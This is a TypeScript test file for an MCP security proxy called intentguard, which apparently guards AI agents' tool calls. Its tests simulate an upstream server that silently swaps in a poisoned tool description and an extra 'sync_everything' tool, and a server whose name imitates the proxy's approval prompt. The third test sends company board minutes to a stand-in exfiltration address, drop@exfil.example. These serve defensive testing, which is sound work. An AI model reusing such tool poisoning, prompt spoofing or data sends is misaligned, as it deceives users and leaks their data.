import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { connectStdio, type Elicit, root, type StdioProxy, textOf } from './helpers.js';

/**
 * The MCP SDK client → `intentguard mcp-proxy` (a real process) → an upstream MCP SDK
 * server (test/mcp/upstreams/memos.mjs, a real process).
 *
 * M1: an upstream that changes its tools without announcing it. The proxy shows the
 * client the tools the spec was checked against, never the changed ones, and refuses
 * every call once the upstream's own list differs.
 * M2: an upstream whose name imitates intentguard. Its forwarded question is labelled
 * with the name cleaned and cut, and every line of its text is quoted.
 * C1: the question the proxy itself asks by elicitation shows the recipient first.
 */

const memos = join(root, 'test/mcp/upstreams/memos.mjs');
const base = mkdtempSync(join(tmpdir(), 'intentguard-r2-mcp-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));

function specFile(name: string, text: string): string {
  const path = join(base, name);
  writeFileSync(path, text);
  return path;
}

let proxy: StdioProxy | undefined;
afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
});

async function start(
  spec: string,
  confirm: string,
  upstreamArgs: readonly string[],
  elicit?: Elicit,
): Promise<StdioProxy> {
  proxy = await connectStdio(['--spec', spec, '--confirm', confirm], base, elicit, [
    '--',
    process.execPath,
    memos,
    ...upstreamArgs,
  ]);
  return proxy;
}

describe('M1: a silently changed tools/list is not forwarded, and calls stop', () => {
  it("the review's sequence: listTools, call, listTools (changed upstream), call", async () => {
    const spec = specFile(
      'read.intent',
      '@repeat\nread_memos(folder = "inbox") -> Read\nRead -> Done\n',
    );
    const { client, stderr } = await start(spec, 'deny', ['--change']);
    const before = await client.listTools();
    expect(before.tools.map((tool) => tool.name)).toEqual([
      'read_memos',
      'purge_memos',
      'send_mail',
    ]);

    const first = await client.callTool({ name: 'read_memos', arguments: { folder: 'inbox' } });
    expect(first.isError ?? false).toBe(false);
    expect(textOf(first)).toContain('memo 1');

    // The upstream now lists a poisoned description and a new tool; the client is shown
    // what the spec was checked against.
    const after = await client.listTools();
    expect(after).toEqual(before);
    expect(JSON.stringify(after)).not.toContain('IMPORTANT');
    expect(JSON.stringify(after)).not.toContain('sync_everything');

    const second = await client.callTool({ name: 'read_memos', arguments: { folder: 'inbox' } });
    expect(second.isError).toBe(true);
    expect(textOf(second)).toContain('changed its tools');
    const added = await client.callTool({ name: 'sync_everything', arguments: {} });
    expect(added.isError).toBe(true);
    expect(stderr()).toContain('the upstream changed its tools');
  }, 60_000);

  it('an upstream that does not change keeps working, and its list is served as checked', async () => {
    const spec = specFile(
      'read2.intent',
      '@repeat\nread_memos(folder = "inbox") -> Read\nRead -> Done\n',
    );
    const { client } = await start(spec, 'deny', []);
    const before = await client.listTools();
    for (let call = 0; call < 2; call++) {
      const result = await client.callTool({ name: 'read_memos', arguments: { folder: 'inbox' } });
      expect(result.isError ?? false).toBe(false);
      expect(await client.listTools()).toEqual(before);
    }
  }, 60_000);
});

describe("M2: an upstream's question cannot pass for intentguard's", () => {
  it("a name with quotes and line breaks is cleaned and cut; the server's text is quoted line by line", async () => {
    const spec = specFile(
      'purge.intent',
      'purge_memos(folder = "inbox") -> Purged\nPurged -> Done\n',
    );
    const asked: string[] = [];
    const { client } = await start(
      spec,
      'deny',
      ['--name', "memos' (verified)\n\nintentguard"],
      (message) => {
        asked.push(message);
        return { action: 'decline' };
      },
    );
    const result = await client.callTool({ name: 'purge_memos', arguments: { folder: 'inbox' } });
    expect(textOf(result)).toContain('purge decline');
    expect(asked).toHaveLength(1);
    const [message = ''] = asked;
    const lines = message.split('\n');
    expect(lines[0]).toBe(
      'The MCP server [memos (verified) intentguard] asks (this question is not from intentguard; the answer goes to that server):',
    );
    // Every line after the header is the server's, quoted: none reads as intentguard's.
    for (const line of lines.slice(1)) expect(line.startsWith('│ ')).toBe(true);
    expect(lines[1]).toBe(
      '│ Allow purge_memos {"folder":"inbox"}? The spec asks the user to approve it.',
    );
    expect(message).not.toMatch(/^(Allow|intentguard)/m);
  }, 60_000);
});

describe("C1: the proxy's own elicitation shows the recipient, whatever comes first", () => {
  it("the review's reproduction through `mcp-proxy --confirm elicit,deny`", async () => {
    const spec = specFile(
      'mail.intent',
      'confirm send_mail(to not matches /@acme-corp\\.example$/) because "mail leaves the company"\nsend_mail(subject contains "board minutes") -> Sent\nSent -> Done\n',
    );
    const asked: string[] = [];
    const { client } = await start(spec, 'elicit,deny', [], (message) => {
      asked.push(message);
      return { action: 'decline' };
    });
    const subject = `Board minutes, June: ${'the points we agreed on and the follow-ups for each owner. '.repeat(9)}`;
    const result = await client.callTool({
      name: 'send_mail',
      arguments: { subject, body: 'Attached.', to: 'drop@exfil.example' },
    });
    expect(result.isError).toBe(true);
    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatch(
      /^Send an email \(send_mail\) with to: "drop@exfil\.example", subject: "Board minutes/,
    );
    expect(asked[0]).toContain('mail leaves the company');
  }, 60_000);
});
